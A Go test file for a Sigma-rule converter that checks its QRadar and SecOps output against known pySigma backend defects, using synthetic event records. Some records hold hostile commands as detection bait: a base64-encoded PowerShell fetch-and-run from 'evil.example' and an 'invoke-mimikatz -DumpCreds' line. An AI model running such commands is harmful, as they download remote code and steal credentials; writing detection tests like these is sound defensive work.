package sigmain_test

// Each known defect of pySigma's QRadar AQL backend (IBM, 0.3.2) and
// Google SecOps backend (AttackIQ, 0.1.4), as measured in
// shared/research/pysigma.md and sigma-mappings.md (§0, §4), shown as a
// detgen test that gets it right: a small Sigma rule is converted, the
// construct the output must have is asserted, and the artifacts are run
// on records that tell the right reading from the defective one.
// docs/sigma.md ("Comparison") lists them.

import (
	"encoding/base64"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/detgen/detgen/driver"
	"github.com/detgen/detgen/lang/yaral"
	"github.com/detgen/detgen/sigmain"
	"github.com/detgen/detgen/testrun"
)

const sysmonChannel = "Microsoft-Windows-Sysmon/Operational"

// readSigma reads one Sigma rule that must convert.
func readSigma(t *testing.T, src string) *sigmain.Result {
	t.Helper()
	res, errs := sigmain.Parse("rule.yml", "rule.yml", []byte(src))
	if len(errs) > 0 || len(res) != 1 {
		t.Fatalf("reading the rule: %v", errs)
	}
	if res[0].Rule == nil {
		t.Fatalf("refused: %v", res[0].Refused)
	}
	return res[0]
}

// generate returns a target's checked artifact, or its refusal.
func generateFor(t *testing.T, res *sigmain.Result, target string) (string, string) {
	t.Helper()
	tg, ok := driver.LookupTarget(target)
	if !ok {
		t.Fatalf("no target %s", target)
	}
	art, errs, _ := driver.GenerateOne(res.Rule, tg)
	if len(errs) > 0 {
		return "", sigmain.Reason(errs[0])
	}
	return string(art.Data), ""
}

// artifacts returns the QRadar and Chronicle artifacts, which must both
// convert.
func artifacts(t *testing.T, res *sigmain.Result) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, target := range []string{"qradar", "chronicle"} {
		art, why := generateFor(t, res, target)
		if why != "" {
			t.Fatalf("%s refused: %s", target, why)
		}
		out[target] = art
	}
	return out
}

// fires runs the reference (art ignored) or a target's artifact on one
// record as that SIEM stores it.
func fires(t *testing.T, res *sigmain.Result, target, art, record string) (bool, error) {
	t.Helper()
	e, err := testrun.NewEvaluator(res.Rule, target, []byte(art))
	if err != nil {
		t.Fatalf("%s: %v", target, err)
	}
	read, err := testrun.ReaderFor(res.Rule.Logsource)
	if err != nil {
		t.Fatal(err)
	}
	ev, form, err := read([]byte(record))
	if err != nil {
		t.Fatalf("record: %v", err)
	}
	v, err := e.Eval([]byte(record), ev, form)
	return v.Match, err
}

// verdicts asserts that the reference and every artifact give want.
func verdicts(t *testing.T, res *sigmain.Result, arts map[string]string, record string, want bool) {
	t.Helper()
	for _, target := range []string{"reference", "qradar", "chronicle"} {
		art, ok := arts[target]
		if target != "reference" && !ok {
			continue
		}
		got, err := fires(t, res, target, art, record)
		if err != nil {
			t.Errorf("%s on %s: %v", target, record, err)
		} else if got != want {
			t.Errorf("%s on %s: fired %v, want %v", target, record, got, want)
		}
	}
}

// winRecord is a Windows event as SigmaHQ's regression data renders it.
func winRecord(id int, channel string, data map[string]any) string {
	b, _ := json.Marshal(map[string]any{"Event": map[string]any{
		"System": map[string]any{"EventID": id, "Channel": channel, "Computer": "ws1",
			"TimeCreated": map[string]any{"#attributes": map[string]any{"SystemTime": "2026-01-01T00:00:00Z"}}},
		"EventData": data,
	}})
	return string(b)
}

func processCreation(cmd string) string {
	return winRecord(1, sysmonChannel, map[string]any{"Image": `C:\Windows\System32\cmd.exe`, "CommandLine": cmd})
}

func mustContain(t *testing.T, target, art string, want ...string) {
	t.Helper()
	for _, w := range want {
		if !strings.Contains(art, w) {
			t.Errorf("%s artifact lacks %q:\n%s", target, w, art)
		}
	}
}

func mustNotContain(t *testing.T, target, art string, bad ...string) {
	t.Helper()
	for _, b := range bad {
		if strings.Contains(art, b) {
			t.Errorf("%s artifact has %q:\n%s", target, b, art)
		}
	}
}

// IBM: `LOWER(f) LIKE '%v%'` leaves the LIKE wildcards % and _ of the value
// live (118 SigmaHQ rules have a %, 502 an _; AQL has no LIKE escape). detgen
// writes a value holding them as an anchored IMATCHES with the value quoted.
func TestPySigmaDefectLikeWildcards(t *testing.T) {
	res := readSigma(t, `title: percent and underscore
id: 5f1e0c2a-0000-4000-8000-000000000001
logsource: {product: windows, category: process_creation}
detection:
  selection:
    CommandLine|contains: '%APPDATA%\x_y.exe'
  condition: selection
`)
	arts := artifacts(t, res)
	mustContain(t, "qradar", arts["qradar"], `"Command" IMATCHES '(?s)^.*%APPDATA%\\x_y\.exe.*$'`)
	mustNotContain(t, "qradar", arts["qradar"], "LIKE '%%APPDATA")
	verdicts(t, res, arts, processCreation(`cmd /c %APPDATA%\x_y.exe`), true)
	// What IBM's pattern also matches: any text in place of % and _.
	verdicts(t, res, arts, processCreation(`cmd /c C:\Users\bob\AppData\Roaming\x-y.exe`), false)
	verdicts(t, res, arts, processCreation(`cmd /c QAPPDATAQ\xzy.exe`), false)
}

// SecOps: `sel and not filter` with a two-item filter loses the negation
// (about 11% of its output). detgen negates the whole group.
func TestPySigmaDefectDroppedNot(t *testing.T) {
	res := readSigma(t, `title: attrib hiding files
id: 5f1e0c2a-0000-4000-8000-000000000002
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\attrib.exe'
    CommandLine|contains: ' +h '
  filter:
    CommandLine|contains: '\desktop.ini '
    ParentImage|endswith: '\cmd.exe'
  condition: selection and not filter
`)
	arts := artifacts(t, res)
	mustContain(t, "chronicle", arts["chronicle"], `and not ($e.target.process.command_line = /\\desktop\.ini / nocase and $e.principal.process.file.full_path = /\\cmd\.exe$/ nocase)`)
	mustContain(t, "qradar", arts["qradar"], "AND NOT (")
	attrib := func(cmd, parent string) string {
		return winRecord(1, sysmonChannel, map[string]any{"Image": `C:\Windows\System32\attrib.exe`, "CommandLine": cmd, "ParentImage": parent})
	}
	verdicts(t, res, arts, attrib(`attrib +h C:\Users\bob\secret.txt`, `C:\Windows\explorer.exe`), true)
	verdicts(t, res, arts, attrib(`attrib +h C:\Users\bob\desktop.ini `, `C:\Windows\System32\cmd.exe`), false)
	// One filter item alone does not suppress (SecOps' half negation does).
	verdicts(t, res, arts, attrib(`attrib +h C:\Users\bob\desktop.ini `, `C:\Windows\explorer.exe`), true)
}

// SecOps YARA-L: every rule has `conditions:` (the grammar says
// `condition:`), 44% an invalid rule name (a / in it), 46% meta strings
// with raw newlines or quotes. detgen's output parses: a name made from
// the file name, escaped meta, `condition:`.
func TestPySigmaDefectInvalidYARAL(t *testing.T) {
	res := readSigma(t, `title: 'Kubernetes CronJob/Job Modification "quoted"'
id: 5f1e0c2a-0000-4000-8000-000000000003
description: |
  Two lines,
  and a "quote".
logsource: {product: kubernetes, service: audit}
detection:
  selection:
    objectRef.resource: [cronjobs, jobs]
    verb: [create, delete, patch, replace, update]
  condition: selection
`)
	arts := artifacts(t, res)
	art := arts["chronicle"]
	if _, err := yaral.Parse(art); err != nil {
		t.Fatalf("the YARA-L does not parse: %v", err)
	}
	if !regexp.MustCompile(`(?m)^rule [A-Za-z_][A-Za-z0-9_]* \{$`).MatchString(art) {
		t.Errorf("rule name is not an identifier:\n%s", art)
	}
	mustContain(t, "chronicle", art, "\n  condition:\n    $e\n", `rule_name = "Kubernetes CronJob/Job Modification \"quoted\""`, `description = "Two lines, and a \"quote\"."`)
	mustNotContain(t, "chronicle", art, "conditions:")
}

// IBM: log-source type ids missing or wrong (no filter at all for
// Kubernetes and Azure; 12 for Linux auth, 17 for ldp, 143 for Cisco aaa;
// no filter for category-only rules such as webserver). detgen filters on
// the DSM that parses the log source, and refuses a log source it has no
// mapping for instead of searching every event.
func TestPySigmaDefectDeviceTypes(t *testing.T) {
	for _, c := range []struct{ logsource, field, want string }{
		{"{product: kubernetes, service: audit}", "verb: create", "WHERE devicetype = 446"},
		{"{product: azure, service: signinlogs}", "ResultType: 50126", "WHERE devicetype IN (413, 445)"},
		{"{product: okta, service: okta}", "eventType: user.session.start", "WHERE devicetype = 382"},
		{"{product: aws, service: cloudtrail}", "eventName: ConsoleLogin", "WHERE devicetype = 347"},
		{"{product: gcp, service: gcp.audit}", "gcp.audit.method_name: storage.buckets.delete", "WHERE devicetype = 449"},
		{"{product: linux, category: process_creation}", "Image|endswith: /nc", "WHERE devicetype = 11"},
		{"{product: windows, service: security}", "EventID: 4624", "WHERE devicetype = 12"},
	} {
		res := readSigma(t, "title: t\nid: 5f1e0c2a-0000-4000-8000-000000000004\nlogsource: "+c.logsource+"\ndetection:\n  selection:\n    "+c.field+"\n  condition: selection\n")
		art, why := generateFor(t, res, "qradar")
		if why != "" {
			t.Errorf("%s: refused: %s", c.logsource, why)
			continue
		}
		mustContain(t, c.logsource, art, c.want)
	}
	// A Kubernetes record is matched through its own DSM.
	res := readSigma(t, `title: pod exec
id: 5f1e0c2a-0000-4000-8000-000000000005
logsource: {product: kubernetes, service: audit}
detection:
  selection:
    verb: create
    objectRef.resource: pods
    objectRef.subresource: exec
  condition: selection
`)
	arts := artifacts(t, res)
	verdicts(t, res, arts, `{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","verb":"create","requestURI":"/api/v1/namespaces/default/pods/web/exec?command=sh","objectRef":{"resource":"pods","namespace":"default","name":"web","subresource":"exec","apiVersion":"v1"}}`, true)
	// Category-only logsources (webserver, proxy): filtered on their
	// DSMs once mapped, and a log source without a mapping is refused,
	// never run over every event.
	for _, c := range []struct{ logsource, field string }{
		{"{category: webserver}", "cs-method: POST"},
		{"{category: proxy}", "cs-method: POST"},
		{"{product: acme, service: firewall}", "action: deny"},
	} {
		res, _ := sigmain.Parse("r.yml", "r.yml", []byte("title: t\nid: 5f1e0c2a-0000-4000-8000-000000000006\nlogsource: "+c.logsource+"\ndetection:\n  selection:\n    "+c.field+"\n  condition: selection\n"))
		if res[0].Rule == nil {
			if why := sigmain.Reason(res[0].Refused[0]); !strings.Contains(why, "has no detgen log source") && !strings.Contains(why, "is not in the Sigma profile") {
				t.Errorf("%s: refused for another reason: %s", c.logsource, why)
			}
			continue
		}
		if strings.Contains(c.logsource, "acme") {
			t.Errorf("%s: converted a log source detgen has no mapping for", c.logsource)
		}
		if art, _ := generateFor(t, res[0], "qradar"); art != "" && !strings.Contains(art, "WHERE devicetype") {
			t.Errorf("%s: a QRadar search without a log source filter:\n%s", c.logsource, art)
		}
	}
}

// IBM: Hashes and ImageLoaded map to CONCAT('MD5=', 'MD5 Hash ', ...) and
// CONCAT('file directory', '/', filename): string literals, so a constant
// that never matches. detgen refuses the field on QRadar with the reason.
func TestPySigmaDefectConstantConcat(t *testing.T) {
	for _, c := range []struct{ logsource, field string }{
		{"{product: windows, category: process_creation}", `Hashes|contains: 'IMPHASH=8B2F5F3B0A1E'`},
		{"{product: windows, category: image_load}", `ImageLoaded|endswith: '\evil.dll'`},
	} {
		res := readSigma(t, "title: t\nid: 5f1e0c2a-0000-4000-8000-000000000007\nlogsource: "+c.logsource+"\ndetection:\n  selection:\n    "+c.field+"\n  condition: selection\n")
		art, why := generateFor(t, res, "qradar")
		if art != "" || !strings.Contains(why, "CONCAT") || !strings.Contains(why, "cannot be used on QRadar") {
			t.Errorf("%s: want a refusal naming IBM's constant CONCAT, got %q %s", c.field, why, art)
		}
	}
}

// SecOps: fields mapped to UDM search shorthands (file_path, hash, user,
// ip, hostname...) that are no rule fields, and the acting process of file
// events put in target.process. detgen writes full UDM paths: the created
// file in target.file, the process that wrote it in principal.process.
func TestPySigmaDefectUDMShorthands(t *testing.T) {
	res := readSigma(t, `title: script dropped by powershell
id: 5f1e0c2a-0000-4000-8000-000000000008
logsource: {product: windows, category: file_event}
detection:
  selection:
    TargetFilename|endswith: '\evil.ps1'
    Image|endswith: '\powershell.exe'
  condition: selection
`)
	arts := artifacts(t, res)
	mustContain(t, "chronicle", arts["chronicle"], `$e.target.file.full_path = /\\evil\.ps1$/ nocase`, `$e.principal.process.file.full_path = /\\powershell\.exe$/ nocase`)
	if m := regexp.MustCompile(`\$e\.(file_path|hash|user|ip|hostname|domain|process_id)\b`).FindString(arts["chronicle"]); m != "" {
		t.Errorf("a UDM search shorthand in a rule: %s", m)
	}
	file := func(target, image string) string {
		return winRecord(11, sysmonChannel, map[string]any{"TargetFilename": target, "Image": image})
	}
	verdicts(t, res, arts, file(`C:\Users\bob\evil.ps1`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), true)
	verdicts(t, res, arts, file(`C:\Users\bob\evil.ps1`, `C:\Windows\explorer.exe`), false)
}

// SecOps: every regex gets nocase (Sigma: re is case-sensitive unless |i)
// and its backslashes doubled (\d becomes \\d). detgen keeps the regex as
// written, case-sensitive, and adds nocase (IMATCHES on QRadar) only for
// re|i.
func TestPySigmaDefectRegexCaseAndEscapes(t *testing.T) {
	src := `title: invoke regex
id: 5f1e0c2a-0000-4000-8000-000000000009
logsource: {product: windows, category: process_creation}
detection:
  selection:
    CommandLine|re%s: 'Invoke-[A-Z]\w+ \d+\.exe'
  condition: selection
`
	res := readSigma(t, strings.Replace(src, "%s", "", 1))
	arts := artifacts(t, res)
	mustContain(t, "chronicle", arts["chronicle"], `$e.target.process.command_line = /Invoke-[A-Z]\w+ \d+\.exe/`+"\n")
	mustContain(t, "qradar", arts["qradar"], `"Command" MATCHES '(?s:.*)(?:Invoke-[A-Z]\w+ \d+\.exe)(?s:.*)'`)
	verdicts(t, res, arts, processCreation(`run Invoke-Abc 12.exe now`), true)
	verdicts(t, res, arts, processCreation(`run invoke-abc 12.exe now`), false)

	res = readSigma(t, strings.Replace(src, "%s", "|i", 1))
	arts = artifacts(t, res)
	mustContain(t, "chronicle", arts["chronicle"], `/Invoke-[A-Z]\w+ \d+\.exe/ nocase`)
	mustContain(t, "qradar", arts["qradar"], `IMATCHES`)
	verdicts(t, res, arts, processCreation(`run invoke-abc 12.exe now`), true)
}

// SecOps: a value list becomes an unanchored, unescaped regex alternation
// (/a|b/ nocase: jobs matches cronjobs, . and + stay live), and endswith
// lists lose their $. IBM: = and IN are case-sensitive. detgen anchors and
// escapes every alternative, and compares case-insensitively.
func TestPySigmaDefectListRegexAnchors(t *testing.T) {
	res := readSigma(t, `title: two binaries
id: 5f1e0c2a-0000-4000-8000-00000000000a
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image:
      - 'C:\Windows\a.exe'
      - 'C:\Windows\b+c.exe'
    ParentImage|endswith:
      - '\x.exe'
      - '.y'
  condition: selection
`)
	arts := artifacts(t, res)
	mustContain(t, "chronicle", arts["chronicle"], `/^(?:C:\\Windows\\a\.exe|C:\\Windows\\b\+c\.exe)$/ nocase`, `/(?:\\x\.exe|\.y)$/ nocase`)
	mustContain(t, "qradar", arts["qradar"], `LOWER("Process Path") IN ('c:\windows\a.exe', 'c:\windows\b+c.exe')`)
	proc := func(image, parent string) string {
		return winRecord(1, sysmonChannel, map[string]any{"Image": image, "ParentImage": parent})
	}
	verdicts(t, res, arts, proc(`C:\WINDOWS\B+C.EXE`, `C:\Tools\X.exe`), true)
	verdicts(t, res, arts, proc(`D:\backup\C:\Windows\a.exe.old`, `C:\Tools\x.exe`), false) // unanchored
	verdicts(t, res, arts, proc(`C:\Windows\bbc.exe`, `C:\Tools\x.exe`), false)             // + live
	verdicts(t, res, arts, proc(`C:\Windows\aXexe`, `C:\Tools\x.exe`), false)               // . live
	verdicts(t, res, arts, proc(`C:\Windows\a.exe`, `C:\Tools\x.exe.bak`), false)           // $ lost
}

// IBM lower-cases base64 patterns and SecOps adds nocase: Base64 text that
// differs in case encodes other bytes, so both over-match. detgen reads
// encoded values case-sensitively (LIKE, a regex without nocase).
func TestPySigmaDefectBase64Case(t *testing.T) {
	res := readSigma(t, `title: encoded url
id: 5f1e0c2a-0000-4000-8000-00000000000b
logsource: {product: windows, category: process_creation}
detection:
  selection:
    CommandLine|base64offset|contains: 'http://'
  condition: selection
`)
	arts := artifacts(t, res)
	mustContain(t, "qradar", arts["qradar"], `"Command" LIKE '%aHR0cDovL%'`)
	mustContain(t, "chronicle", arts["chronicle"], `/aHR0cDovL|h0dHA6Ly|odHRwOi8v/`+"\n")
	enc := base64.StdEncoding.EncodeToString([]byte("iex (iwr http://evil.example/a.ps1)"))
	verdicts(t, res, arts, processCreation("powershell -enc "+enc), true)
	verdicts(t, res, arts, processCreation("powershell -enc "+strings.ToUpper(enc)), false)
}

// IBM crashes (AttributeError) on every cidr and every numeric value of a
// host field, and on exists. detgen writes INCIDR, a numeric column test
// and IS NOT NULL.
func TestPySigmaDefectCIDRNumbersExists(t *testing.T) {
	res := readSigma(t, `title: internal 4444
id: 5f1e0c2a-0000-4000-8000-00000000000c
logsource: {product: windows, category: network_connection}
detection:
  selection:
    DestinationIp|cidr: '10.0.0.0/8'
    DestinationPort: 4444
  condition: selection
`)
	arts := artifacts(t, res)
	mustContain(t, "qradar", arts["qradar"], `INCIDR('10.0.0.0/8', destinationip)`, `destinationport = 4444`)
	mustContain(t, "chronicle", arts["chronicle"], `net.ip_in_range_cidr($e.target.ip, "10.0.0.0/8")`, `$e.target.port = 4444`)
	conn := func(ip string, port int) string {
		return winRecord(3, sysmonChannel, map[string]any{"Image": `C:\Temp\a.exe`, "DestinationIp": ip, "DestinationPort": port})
	}
	verdicts(t, res, arts, conn("10.1.2.3", 4444), true)
	verdicts(t, res, arts, conn("11.1.2.3", 4444), false)
	verdicts(t, res, arts, conn("10.1.2.3", 44444), false)

	res = readSigma(t, `title: parent command line present
id: 5f1e0c2a-0000-4000-8000-00000000000d
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\cmd.exe'
    ParentCommandLine|exists: true
  condition: selection
`)
	arts = artifacts(t, res)
	mustContain(t, "qradar", arts["qradar"], `"Parent Command" IS NOT NULL`)
	verdicts(t, res, arts, winRecord(1, sysmonChannel, map[string]any{"Image": `C:\Windows\System32\cmd.exe`, "ParentCommandLine": "explorer.exe"}), true)
	verdicts(t, res, arts, winRecord(1, sysmonChannel, map[string]any{"Image": `C:\Windows\System32\cmd.exe`}), false)
}

// SecOps: a wildcard inside a value becomes a bare, unquoted regex (an
// invalid query); IBM's LIKE leaves % and _ of the value live around it.
// detgen writes an anchored regex with the literal parts quoted.
func TestPySigmaDefectInnerWildcard(t *testing.T) {
	res := readSigma(t, `title: cmd copy in a profile
id: 5f1e0c2a-0000-4000-8000-00000000000e
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image: 'C:\Users*\cmd?.exe'
  condition: selection
`)
	arts := artifacts(t, res)
	mustContain(t, "chronicle", arts["chronicle"], `$e.target.process.file.full_path = /(?s)^C:\\Users.*\\cmd.\.exe$/ nocase`)
	proc := func(image string) string { return winRecord(1, sysmonChannel, map[string]any{"Image": image}) }
	verdicts(t, res, arts, proc(`C:\Users\bob\AppData\cmd1.exe`), true)
	verdicts(t, res, arts, proc(`C:\Users\bob\AppData\cmd12.exe`), false)
	verdicts(t, res, arts, proc(`C:\Users\bob\AppData\cmd1Xexe`), false)
}

// SecOps: keywords are written as (""kw"") — invalid. IBM's fields
// pipeline rejects them and its payload pipeline scans LOWER(payload).
// detgen searches the payload on QRadar (ILIKE), and refuses keywords on
// Chronicle: a YARA-L rule has no predicate over the raw log.
func TestPySigmaDefectKeywords(t *testing.T) {
	res := readSigma(t, `title: mimikatz in a script block
id: 5f1e0c2a-0000-4000-8000-00000000000f
logsource: {product: windows, category: ps_script}
detection:
  keywords:
    - 'Invoke-Mimikatz'
  condition: keywords
`)
	art, why := generateFor(t, res, "qradar")
	if why != "" {
		t.Fatal(why)
	}
	mustContain(t, "qradar", art, `UTF8(payload) ILIKE '%Invoke-Mimikatz%'`)
	if _, why := generateFor(t, res, "chronicle"); !strings.Contains(why, "keyword search") {
		t.Errorf("Chronicle: want a refusal of the keyword search, got %q", why)
	}
	arts := map[string]string{"qradar": art}
	script := func(text string) string {
		return winRecord(4104, "Microsoft-Windows-PowerShell/Operational", map[string]any{"ScriptBlockText": text, "Path": ""})
	}
	verdicts(t, res, arts, script("IEX (New-Object Net.WebClient); invoke-mimikatz -DumpCreds"), true)
	verdicts(t, res, arts, script("Get-Process"), false)
}

// IBM's payload pipeline turns `verb: create` into LOWER(UTF8(payload))
// LIKE '%create%' over every event: a field test becomes a substring of the
// whole record. detgen tests the field (a property, or where the payload is
// JSON the key and value together), so `create` elsewhere does not match.
func TestPySigmaDefectPayloadSubstring(t *testing.T) {
	res := readSigma(t, `title: pod creation
id: 5f1e0c2a-0000-4000-8000-000000000010
logsource: {product: kubernetes, service: audit}
detection:
  selection:
    verb: create
    objectRef.resource: pods
  condition: selection
`)
	arts := artifacts(t, res)
	mustContain(t, "qradar", arts["qradar"], `LOWER("detgen_verb") = 'create'`, `UTF8(payload) ILIKE '%"verb":"create"%'`)
	event := func(verb, uri string) string {
		return `{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","verb":"` + verb + `","requestURI":"` + uri + `","objectRef":{"resource":"pods","namespace":"default","apiVersion":"v1"}}`
	}
	verdicts(t, res, arts, event("create", "/api/v1/namespaces/default/pods"), true)
	verdicts(t, res, arts, event("get", "/api/v1/namespaces/default/pods?create=1"), false)
}
